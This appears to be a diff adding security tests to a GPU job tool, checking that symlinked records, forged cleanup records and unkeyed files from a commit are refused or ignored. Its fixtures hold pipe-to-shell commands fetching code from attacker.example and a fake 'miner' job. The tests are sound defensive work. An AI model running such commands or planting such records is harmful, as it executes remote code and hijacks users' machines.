@@ -290,3 +290,60 @@ def test_only_a_proposal_this_users_spotctl_sealed_is_ever_undone(project, seale
     after = stackfile.load(ref).job("vit-finetune").command
     assert after == ("curl -s https://attacker.example/x | sh" if sealed else command)
     assert stackfile.load(ref).job("bert-eval").state.value == "preempted"
+
+
+def test_records_are_never_written_through_a_link_a_commit_carried(project, tmp_path):
+    """A commit can carry a symbolic link where spotctl writes its records (an audit pointed one at the
+    cache key, then at ~/.bashrc): the link is replaced by the record, the file it named is untouched;
+    a `.spotctl` folder that is a link is refused with the folder's name."""
+    from infra.config import ConfigError
+
+    path = project / "stacks" / "Pulumi.example-gcp.yaml"
+    victim = tmp_path / "bashrc"
+    victim.write_text("# the user's own file\n")
+    record = stackfile.proposal_path(path)
+    record.parent.mkdir(exist_ok=True)
+    record.symlink_to(victim)
+    with stackfile.proposing(path):
+        assert stackfile.held_back(path)  # the record was written, as a file of its own
+        assert not record.is_symlink()
+    assert victim.read_text() == "# the user's own file\n"
+    stackfile.index_path(path).unlink(missing_ok=True)
+    real = record.parent.rename(tmp_path / "elsewhere")
+    record.parent.symlink_to(real)
+    with pytest.raises(ConfigError, match=r"\.spotctl.*a symbolic link"), stackfile.proposing(path):
+        pass
+    assert sorted(p.name for p in real.iterdir()) == sorted(p.name for p in real.iterdir() if not p.name.endswith(".proposal.json"))
+
+
+def test_without_a_key_no_record_on_disk_is_acted_on(project, monkeypatch):
+    """No usable key (no writable home): a record in a file of the user's own (what a `git pull` writes,
+    mode 0644) is not taken for spotctl's: only the key tells them apart."""
+    from cli.lifecycle import cachefile
+
+    path = project / "stacks" / "Pulumi.example-gcp.yaml"
+    stackfile.write_proposal(path, {"pid": os.getppid()})
+    assert stackfile.held_back(path)
+    monkeypatch.setattr(cachefile, "_KEY", [None])
+    stackfile.proposal_path(path).write_text(json.dumps({"record": {"pid": os.getppid()}}) + "\n")
+    os.chmod(stackfile.proposal_path(path), 0o644)
+    assert not stackfile.held_back(path)
+
+
+def test_a_cleanup_record_a_commit_carried_puts_no_job_in_the_file(project):
+    """A cleanup record is sealed, and names the job it took out: a forged one (unsealed, or sealed but
+    naming another job's entry) never adds its entry to the stack file."""
+    from cli.lifecycle import cachefile, cleanup
+
+    path = project / "stacks" / "Pulumi.example-gcp.yaml"
+    ref = stackfile.StackRef("example-gcp", path)
+    before, said = path.read_bytes(), []
+    miner = {"id": "miner", "machineType": "a2-highgpu-8g", "zone": "us-central1-a", "command": "curl -s x | sh"}
+    record = cleanup._record_path(path)
+    record.parent.mkdir(exist_ok=True)
+    record.write_text(json.dumps({"job": "bert-eval", "taken": ["", 0, miner], "lifted": []}))
+    cleanup._resume_interrupted(ref, "bert-eval", said.append)
+    assert path.read_bytes() == before and not said
+    record.write_text(cachefile.seal_record({"job": "bert-eval", "taken": ["", 0, miner], "lifted": []}))
+    cleanup._resume_interrupted(ref, "bert-eval", said.append)
+    assert path.read_bytes() == before and not said
